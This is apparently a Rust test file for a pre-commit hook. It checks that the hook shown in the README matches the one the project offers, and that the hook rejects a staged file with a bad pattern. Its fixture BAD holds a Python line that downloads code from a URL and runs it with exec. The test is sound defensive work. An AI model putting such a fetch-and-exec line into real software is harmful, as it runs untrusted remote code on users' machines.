//! The hook that we offer, and the one that the README shows: what is printed there is what is run here.

use std::process::Command;

use serde_json::Value;

use crate::room::{Ran, Room, repository};

const BAD: &str = "import urllib.request\n\nexec(urllib.request.urlopen(\"https://example.org/x\").read())\n";

/// The hooks of a text in YAML: a list of them, or a configuration with repositories.
fn hooks(yaml: &str) -> Vec<Value> {
    let value: Value = serde_yaml::from_str(yaml).expect("YAML");
    match value {
        Value::Array(hooks) => hooks,
        configuration => configuration["repos"]
            .as_array()
            .expect("repositories")
            .iter()
            .flat_map(|repository| repository["hooks"].as_array().expect("hooks").clone())
            .collect(),
    }
}

/// The configuration that the README shows.
fn shown() -> String {
    let readme = std::fs::read_to_string(repository().join("README.md")).expect("the README");
    let block = readme.split("```yaml\n").find(|block| block.starts_with("repos:")).expect("a configuration");
    block.split("```").next().expect("its text").to_owned()
}

/// Runs what a hook would: in the top folder of the repository, with no names of files.
fn run(room: &Room, hook: &Value) -> Ran {
    let entry = hook["entry"].as_str().expect("an entry");
    let words: Vec<&str> = entry.split_whitespace().collect();
    assert_eq!(words[0], "aetherra-maint");
    assert_eq!(hook["pass_filenames"], false, "it looks at the index of git itself");
    room.run(&words[1..])
}

fn git(room: &Room, arguments: &[&str]) {
    let status = Command::new("git").args(arguments).current_dir(room.project()).status().expect("git runs");
    assert!(status.success());
}

#[test]
fn the_hooks_refuse_what_is_staged_and_bad() {
    let offered = std::fs::read_to_string(repository().join(".pre-commit-hooks.yaml")).expect("the hooks");
    let (offered, printed) = (hooks(&offered), hooks(&shown()));
    assert_eq!(offered[0]["entry"], printed[0]["entry"], "both do the same");
    assert_eq!(printed[0]["language"], "system");
    for hook in offered.iter().chain(&printed) {
        assert!(["id", "name", "entry", "language"].iter().all(|key| hook[key].is_string()), "{hook}");
        let room = Room::with(&[("good.py", "x = 1\n"), ("bad.py", BAD)]);
        git(&room, &["init", "-q"]);
        git(&room, &["add", "good.py"]);
        let ran = run(&room, hook);
        assert_eq!(ran.code, 0, "what is not staged does not count: {}{}", ran.stdout, ran.stderr);
        git(&room, &["add", "bad.py"]);
        let ran = run(&room, hook);
        assert_eq!(ran.code, 1, "{}{}", ran.stdout, ran.stderr);
        assert!(ran.stdout.contains("bad.py"));
    }
}
